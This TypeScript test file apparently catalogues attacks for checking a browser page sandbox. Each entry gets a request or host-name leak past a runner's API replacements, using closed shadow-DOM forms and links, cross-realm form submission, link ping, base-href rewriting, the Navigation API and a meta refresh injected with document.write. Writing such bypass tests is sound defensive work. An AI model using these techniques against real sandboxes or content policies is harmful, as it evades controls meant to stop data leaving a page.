/** Lists attacks that go around the page runner's replacements, to test policy and sandbox alone. */
import type { Attack } from './attack.ts';

const requestSignByNavigation = { sign: 'request', origins: ['document'], leavesDocument: true } as const;
const requestSignWithoutNavigation = { sign: 'request', origins: ['document'] } as const;

export const runnerBypassAttacks: readonly Attack[] = [
	{
		id: 'form-in-shadow',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<form action="${t.url}"><button></button></form>`;
			shadow.querySelector('button')?.click();
		}
	},
	{
		id: 'form-action-in-shadow',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<form><input name="x"><button formaction="${t.url}" formmethod="post"></button></form>`;
			shadow.querySelector('button')?.click();
		}
	},
	{
		id: 'form-window-in-shadow',
		...requestSignWithoutNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<form action="${t.url}" target="_blank"><button></button></form>`;
			shadow.querySelector('button')?.click();
		}
	},
	{
		id: 'form-of-another-realm',
		...requestSignByNavigation,
		run: (t) => {
			const frame = document.body.appendChild(document.createElement('iframe'));
			const otherRealm = frame.contentWindow as unknown as typeof globalThis;
			const form = document.body.appendChild(document.createElement('form'));
			form.action = t.url;
			const submit = Object.getOwnPropertyDescriptor(otherRealm.HTMLFormElement.prototype, 'submit')
				?.value as () => void;
			submit.call(form);
		}
	},
	{
		id: 'form-request-of-another-realm',
		...requestSignByNavigation,
		run: (t) => {
			const frame = document.body.appendChild(document.createElement('iframe'));
			const otherRealm = frame.contentWindow as unknown as typeof globalThis;
			const form = document.body.appendChild(document.createElement('form'));
			form.action = t.url;
			Reflect.apply(otherRealm.HTMLFormElement.prototype.requestSubmit, form, []);
		}
	},
	{
		id: 'link-in-shadow',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<a href="${t.url}">x</a>`;
			shadow.querySelector('a')?.click();
		}
	},
	{
		id: 'link-nowhere',
		...requestSignByNavigation,
		run: (t) => {
			const link = document.createElement('a');
			link.href = t.url;
			link.click();
		}
	},
	{
		id: 'link-in-svg',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<svg><a href="${t.url}"><text y="9">x</text></a></svg>`;
			const click = new MouseEvent('click', { bubbles: true, cancelable: true, composed: true });
			shadow.querySelector('text')?.dispatchEvent(click);
		}
	},
	{
		id: 'link-area',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<map name="m"><area shape="default" href="${t.url}"></map>`;
			shadow.querySelector('area')?.click();
		}
	},
	{
		id: 'link-top',
		...requestSignByNavigation,
		run: (t) => {
			const link = document.createElement('a');
			link.href = t.url;
			link.target = '_top';
			link.click();
		}
	},
	{
		id: 'link-of-base',
		...requestSignByNavigation,
		run: (t) => {
			document.head.insertAdjacentHTML('beforeend', `<base href="${t.url}/">`);
			const link = document.createElement('a');
			link.setAttribute('href', 'x');
			link.click();
		}
	},
	{
		id: 'link-download',
		...requestSignByNavigation,
		run: (t) => {
			const link = document.createElement('a');
			link.href = t.url;
			link.download = 'x';
			link.click();
		}
	},
	{
		id: 'link-ping',
		...requestSignByNavigation,
		run: (t) => {
			const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
			shadow.innerHTML = `<a href="#here" ping="${t.url}">x</a>`;
			shadow.querySelector('a')?.click();
		}
	},
	{
		id: 'window-link',
		...requestSignWithoutNavigation,
		run: (t) => {
			const link = document.createElement('a');
			link.href = t.url;
			link.target = '_blank';
			link.click();
		}
	},
	{ id: 'window-of-document', ...requestSignWithoutNavigation, run: (t) => document.open(t.url, '_blank', '') },
	{
		id: 'window-of-another-realm',
		...requestSignWithoutNavigation,
		run: (t) => document.body.appendChild(document.createElement('iframe')).contentWindow?.open(t.url)
	},
	{
		id: 'navigation',
		...requestSignByNavigation,
		run: (t) => {
			const { navigation } = window as unknown as { navigation: { navigate(url: string): unknown } };
			navigation.navigate(t.url);
		}
	},
	{
		id: 'refresh-written',
		...requestSignByNavigation,
		run: (t) => {
			document.write(`<meta http-equiv="refresh" content="0;url=${t.url}">`);
			document.close();
		}
	},
	{
		id: 'name-of-link',
		sign: 'name',
		origins: ['document'],
		leavesDocument: true,
		run: (t) => {
			const link = document.createElement('a');
			link.href = `http://${t.hostName}/`;
			link.click();
		}
	}
];
